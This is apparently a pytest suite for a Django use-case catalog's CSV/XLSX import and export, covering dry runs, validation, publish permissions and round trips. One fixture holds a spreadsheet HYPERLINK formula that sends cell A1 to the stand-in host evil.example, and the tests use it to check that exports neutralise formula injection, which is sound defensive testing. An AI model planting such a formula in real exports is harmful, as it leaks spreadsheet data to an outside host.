"""Catalog import and export: a dry run lists every row's fate before anything is written, and
an exported file imports again without changing anything."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.contrib.auth.models import Permission
from import_export.formats.base_formats import CSV, XLSX

from usecases.models import Cluster, ExpertAssessment, ProblemStatement, UseCase, UseCaseChange
from usecases.resources import (
    ClusterResource,
    ExpertAssessmentResource,
    ProblemStatementResource,
    UseCaseResource,
)
from usecases.services import load_catalog

pytestmark = pytest.mark.django_db

RESOURCES = [ClusterResource, UseCaseResource, ProblemStatementResource, ExpertAssessmentResource]


@pytest.fixture
def loaded_catalog(tiny_catalog_dir):
    # A few real use cases, without embedding: the on-commit refresh never runs in a rolled-back
    # test.
    load_catalog(tiny_catalog_dir)


def exported(resource_class, file_format) -> bytes | str:
    return file_format.export_data(resource_class().export())


def imported(resource_class, file_format, data, user, *, dry_run=False):
    dataset = file_format.create_dataset(data)
    return resource_class().import_data(dataset, dry_run=dry_run, user=user)


def csv_rows(resource_class) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(exported(resource_class, CSV()))))


def rejected(result) -> dict[int, str]:
    """Row number -> reason, for rows refused by validation and rows that could not be read."""
    reasons = {row.number: str(row.error_dict) for row in result.invalid_rows}
    reasons.update(
        {number: str([e.error for e in errors]) for number, errors in result.row_errors()}
    )
    return reasons


def as_csv(rows: list[dict[str, str]]) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


@pytest.mark.parametrize("file_format", [CSV, XLSX], ids=["csv", "xlsx"])
@pytest.mark.parametrize("resource_class", RESOURCES, ids=lambda r: r.__name__)
def test_exporting_then_importing_changes_nothing(
    loaded_catalog, admin_user, resource_class, file_format
):
    model = resource_class._meta.model
    rows = model.objects.count()
    stamps = list(UseCase.objects.order_by("pk").values_list("updated_at", flat=True))

    result = imported(
        resource_class, file_format(), exported(resource_class, file_format()), admin_user
    )

    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["skip"] == rows
    assert result.totals["new"] == result.totals["update"] == 0
    assert model.objects.count() == rows
    assert list(UseCase.objects.order_by("pk").values_list("updated_at", flat=True)) == stamps
    assert not UseCaseChange.objects.exists()


def test_translations_and_code_lists_travel_in_their_own_columns(loaded_catalog, admin_user):
    rows = csv_rows(UseCaseResource)
    row = rows[0]
    assert {"title_en", "title_de", "summary_de", "data_needed_en"} <= set(row)
    row["title_de"] = "Maschinenausfälle früh erkennen (überarbeitet)"
    row["industries"] = "automotive, mechanical_engineering"

    result = imported(UseCaseResource, CSV(), as_csv(rows), admin_user)

    assert result.totals["update"] == 1 and result.totals["skip"] == len(rows) - 1
    use_case = UseCase.objects.get(slug=row["slug"])
    assert use_case.title_de == "Maschinenausfälle früh erkennen (überarbeitet)"
    assert use_case.industries == ["automotive", "mechanical_engineering"]
    change = UseCaseChange.objects.get(use_case=use_case)
    assert change.source == UseCaseChange.Source.IMPORT and change.user == admin_user
    assert change.fields["title_de"][1] == "Maschinenausfälle früh erkennen (überarbeitet)"
    assert change.fields["industries"][1] == ["automotive", "mechanical_engineering"]


def test_the_admin_dry_run_lists_creates_changes_and_rejects_and_writes_nothing(
    loaded_catalog, admin_client
):
    rows = csv_rows(UseCaseResource)[:4]
    changed, new, bad_code, bad_cluster = (dict(r) for r in rows)
    original_title = changed["title_en"]
    changed["title_en"] = "A changed title"
    new["slug"] = "brand-new-use-case"
    bad_code["ai_techniques"] = "natural_language_processing, teleportation"
    bad_cluster["cluster"] = "nowhere"
    upload = io.BytesIO(as_csv([changed, new, bad_code, bad_cluster]).encode("utf-8"))
    upload.name = "use-cases.csv"

    response = admin_client.post(
        "/admin/usecases/usecase/import/", {"import_file": upload, "format": "0"}
    )

    page = response.content.decode()
    assert response.status_code == 200
    assert "Would create: 1" in page
    assert "Would change: 1" in page
    assert "Rejected: 2" in page
    assert "Unknown values: teleportation" in page
    assert "Unknown cluster: nowhere" in page
    assert "<td>3 </td>" in page and "<td>4 </td>" in page  # the rejected rows' numbers
    assert "Confirm import" not in page
    assert not UseCase.objects.filter(slug="brand-new-use-case").exists()
    assert UseCase.objects.get(slug=changed["slug"]).title_en == original_title


def test_a_clean_dry_run_is_confirmed_before_it_is_written(loaded_catalog, admin_client):
    rows = csv_rows(ClusterResource)
    rows[0]["name_de"] = "Neuer Name"
    upload = io.BytesIO(as_csv(rows).encode("utf-8"))
    upload.name = "clusters.csv"

    page = admin_client.post(
        "/admin/usecases/cluster/import/", {"import_file": upload, "format": "0"}
    ).content.decode()

    assert "Would change: 1" in page and "Rejected: 0" in page and "Confirm import" in page
    assert not Cluster.objects.filter(name_de="Neuer Name").exists()


def test_invalid_scores_and_unknown_use_cases_are_rejected_with_row_and_reason(
    loaded_catalog, admin_user
):
    rows = csv_rows(ExpertAssessmentResource)[:3]
    rows[0]["revenue"] = "6"
    rows[1]["cost_reduction"] = "many"
    rows[2]["use_case"] = "no-such-use-case"
    before = list(ExpertAssessment.objects.values_list("pk", "revenue", "cost_reduction"))

    result = imported(ExpertAssessmentResource, CSV(), as_csv(rows), admin_user, dry_run=True)

    reasons = rejected(result)
    assert set(reasons) == {1, 2, 3}
    assert "revenue" in reasons[1] and "less than or equal to 5" in reasons[1]
    assert "cost_reduction" in reasons[2] and "whole number from 1 to 5, not “many”" in reasons[2]
    assert "Unknown use case: no-such-use-case" in reasons[3]
    assert list(ExpertAssessment.objects.values_list("pk", "revenue", "cost_reduction")) == before


def test_an_unknown_problem_statement_language_is_rejected(loaded_catalog, admin_user):
    rows = csv_rows(ProblemStatementResource)[:1]
    rows[0]["language"] = "fr"
    rows[0]["text"] = "Nos machines tombent en panne."
    count = ProblemStatement.objects.count()

    result = imported(ProblemStatementResource, CSV(), as_csv(rows), admin_user)

    assert [row.number for row in result.invalid_rows] == [1]
    assert "language" in result.invalid_rows[0].field_specific_errors
    assert ProblemStatement.objects.count() == count


def test_only_editors_allowed_to_publish_may_import_a_status_change(
    loaded_catalog, django_user_model
):
    editor = django_user_model.objects.create_user("editor", is_staff=True)
    rows = csv_rows(UseCaseResource)[:1]
    rows[0]["status"] = "retired"

    refused = imported(UseCaseResource, CSV(), as_csv(rows), editor)
    assert "status" in refused.invalid_rows[0].field_specific_errors

    editor.user_permissions.add(Permission.objects.get(codename="publish_usecase"))
    editor = django_user_model.objects.get(pk=editor.pk)  # permissions are cached per object
    accepted = imported(UseCaseResource, CSV(), as_csv(rows), editor)
    assert accepted.totals["update"] == 1
    assert UseCase.objects.get(slug=rows[0]["slug"]).status == UseCase.Status.RETIRED


def test_editors_without_the_publish_permission_import_changes_to_drafts_only(
    loaded_catalog, django_user_model
):
    editor = django_user_model.objects.create_user("drafter", is_staff=True)
    draft = UseCase.objects.published().first()
    UseCase.objects.filter(pk=draft.pk).update(status=UseCase.Status.DRAFT)
    rows = csv_rows(UseCaseResource)
    by_slug = {row["slug"]: row for row in rows}
    by_slug[draft.slug]["summary_en"] = "A reworked draft summary."
    published = next(row for row in rows if row["status"] == "published")
    published["summary_en"] = "An unreviewed change to a published use case."

    result = imported(UseCaseResource, CSV(), as_csv(rows), editor, dry_run=True)

    reasons = rejected(result)
    assert len(reasons) == 1
    assert "Only editors allowed to publish may change published" in next(iter(reasons.values()))
    assert result.totals["update"] == 1  # the draft; every unchanged published row passes
    assert result.totals["skip"] == len(rows) - 2


def test_import_and_export_need_the_models_permissions(client, django_user_model):
    viewer = django_user_model.objects.create_user("viewer", is_staff=True)
    viewer.user_permissions.add(Permission.objects.get(codename="view_usecase"))
    client.force_login(viewer)

    assert client.get("/admin/usecases/usecase/import/").status_code == 403
    assert client.get("/admin/usecases/usecase/export/").status_code == 200


FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Details")'


@pytest.fixture
def formula_statement(loaded_catalog) -> ProblemStatement:
    """What "Create draft use case from this" can carry from an anonymous query."""
    use_case = UseCase.objects.order_by("slug").first()
    return ProblemStatement.objects.create(use_case=use_case, language="en", text=FORMULA)


def admin_export(admin_client, file_format: int) -> bytes:
    fields = {
        f"problemstatementresource_{name}": "on" for name in ProblemStatementResource().fields
    }
    response = admin_client.post(
        "/admin/usecases/problemstatement/export/", {"format": file_format, **fields}
    )
    assert response.status_code == 200
    assert response.get("Content-Disposition", "").startswith("attachment"), response.content
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_a_formula_in_a_catalog_text_exports_to_csv_as_text(admin_client, formula_statement):
    rows = csv.DictReader(io.StringIO(admin_export(admin_client, 0).decode("utf-8")))

    texts = [row["text"] for row in rows]
    assert f"'{FORMULA}" in texts
    assert not [text for text in texts if text[:1] in ("=", "+", "-", "@")]


def test_a_formula_in_a_catalog_text_exports_to_xlsx_as_a_text_cell(
    admin_client, formula_statement
):
    sheet = openpyxl.load_workbook(io.BytesIO(admin_export(admin_client, 1))).active

    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert f"'{FORMULA}" in [cell.value for cell in cells]


@pytest.mark.parametrize("file_format", [CSV, XLSX], ids=["csv", "xlsx"])
def test_neutralised_texts_import_back_unchanged(formula_statement, admin_user, file_format):
    use_case = formula_statement.use_case
    use_case.title_en = "'=a title that already starts with an apostrophe"
    use_case.summary_en = "-20 % scrap in six months"
    use_case.save()

    for resource_class in (ProblemStatementResource, UseCaseResource):
        result = imported(
            resource_class, file_format(), exported(resource_class, file_format()), admin_user
        )
        assert result.totals["skip"] == resource_class._meta.model.objects.count()
        assert result.totals["new"] == result.totals["update"] == 0

    use_case.refresh_from_db()
    assert use_case.title_en == "'=a title that already starts with an apostrophe"
    assert use_case.summary_en == "-20 % scrap in six months"
    assert ProblemStatement.objects.filter(text=FORMULA).count() == 1
